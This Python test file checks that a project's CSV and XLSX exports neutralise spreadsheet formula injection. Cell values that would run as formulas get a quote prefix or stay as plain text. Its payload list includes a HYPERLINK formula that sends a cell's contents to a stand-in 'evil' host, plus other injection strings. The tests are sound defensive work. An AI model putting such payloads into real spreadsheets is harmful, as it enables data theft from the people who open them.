"""Formula injection (issue 12, M3): no export lets a name run as a spreadsheet formula; text stays intact."""

from __future__ import annotations

import csv
from decimal import Decimal

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from wengang.domain.cells import csv_cell, runs_as_formula, sheet_text
from wengang.rules.output import write
from wengang.snapshot.faults import Fault, write_report

RISKY = ["=1+1", "+86 10", "-2", "@SUM(A1:A9)", "\t=cmd", "\rX", " =HYPERLINK(\"http://x\")", "\u3000=1",
         "=HYPERLINK(\"http://evil/\"&A1,\"点击\")"]
PLAIN = ["北京某某有限公司", "a=1", "1-2", "A+B", "'=already quoted", "", "x@y", "10.00"]


@pytest.mark.parametrize("text", RISKY)
def test_text_a_spreadsheet_would_run_is_quoted_in_csv(text):
    assert runs_as_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_and_numbers_are_left_as_they_are(text):
    assert not runs_as_formula(text)
    assert csv_cell(text) == text


def test_numbers_stay_numbers_and_xml_forbidden_characters_become_a_visible_mark():
    assert csv_cell(-5) == -5 and csv_cell(Decimal("-1.00")) == Decimal("-1.00") and csv_cell(None) is None
    assert sheet_text("响铃\x07单位\x1f") == "响铃\ufffd单位\ufffd"
    assert sheet_text("tab\tnew\nline") == "tab\tnew\nline"          # XML takes these


def formulas(path) -> list[str]:
    """Every cell openpyxl reads back as a formula (none may be)."""
    return [c.coordinate for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


def test_the_decisions_csv_and_xlsx_carry_no_formula(tmp_path):
    table = pa.table({"uscc": ["=1+1", "91110105000000001X", "@A1"], "decision": ["-cmd", "eligible", "+x"],
                      "amount": ["1440.00", "0.00", "1.00"], "reasons": [None, "\t=2", "ok"]})
    csv_path = write(table, tmp_path / "d.csv", "csv")
    with csv_path.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["uscc"] for r in rows] == ["'=1+1", "91110105000000001X", "'@A1"]
    assert [r["decision"] for r in rows] == ["'-cmd", "eligible", "'+x"]
    assert [r["amount"] for r in rows] == ["1440.00", "0.00", "1.00"]
    assert [r["reasons"] for r in rows] == ["", "'\t=2", "ok"]
    xlsx = write(table, tmp_path / "d.xlsx", "xlsx")
    assert formulas(xlsx) == []
    sheet = load_workbook(xlsx).active
    *got, total = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [r[0] for r in got] == ["=1+1", "91110105000000001X", "@A1"]          # the text intact, as text
    assert [r[2] for r in got] == [1440, 0, 1] and total[:3] == ["合计 / total (3)", None, 1441]   # numbers, summed
    assert [sheet.cell(r, 1).quotePrefix for r in (2, 3, 4)] == [True, False, True]


def test_the_import_fault_report_quotes_a_formula_value(tmp_path):
    path = write_report([Fault("employers.csv", 3, "name", "=HYPERLINK(\"http://x\")", "公式 / formula"),
                         Fault("contributions.csv", 4, "insured", "-5", "负数 / negative")], tmp_path / "f.csv")
    with path.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][3] == "'-5" and rows[2][3] == "'=HYPERLINK(\"http://x\")" and rows[1][1] == "4"


def test_a_sheet_is_a_real_spreadsheet_exact_amounts_totals_and_never_a_formula():
    import io
    from decimal import Decimal

    from openpyxl import load_workbook

    from wengang.rules import sheets
    from wengang.rules.sheets import Column, Sheet

    columns = [Column("单位 unit", width=30), Column("金额 amount", "money", total=True), Column("比例 ratio", "ratio")]
    rows = [("=1+1", Decimal("12345678901.23"), Decimal("0.6")), ("甲", "0.01", ""), ("乙", None, Decimal("0.5"))]
    sheet = load_workbook(io.BytesIO(sheets.workbook(Sheet("s", "标题 title", columns, rows)))).active
    got = list(sheet.iter_rows(values_only=True))
    assert got[1] == ("单位 unit", "金额 amount", "比例 ratio") and sheet["A2"].font.b
    assert got[2] == ("=1+1", 12345678901.23, 0.6) and sheet["A3"].data_type == "s"      # text, not a formula
    assert got[3][1] == 0.01 and got[4][1] is None                                       # unknown stays empty
    assert got[5] == ("合计 / total (3)", 12345678901.24, None)                          # summed exactly, in Python
    assert sheet["B3"].number_format == "#,##0.00" and sheet["C3"].number_format == "0.00%"
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:C5" and sheet.column_dimensions["A"].width == 30
